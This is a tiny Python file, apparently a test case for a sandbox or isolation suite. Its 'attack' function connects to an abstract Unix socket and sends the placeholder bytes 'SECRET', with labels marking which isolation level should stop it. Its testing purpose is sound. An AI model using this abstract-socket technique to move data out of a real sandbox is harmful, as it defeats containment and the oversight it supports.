"""Connects to a server on an abstract socket."""

import socket

STOPPED_AT = "L1"
THROUGH_AT = "L0"


def attack(t):
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0" + t["abstract"])
    s.sendall(b"SECRET")
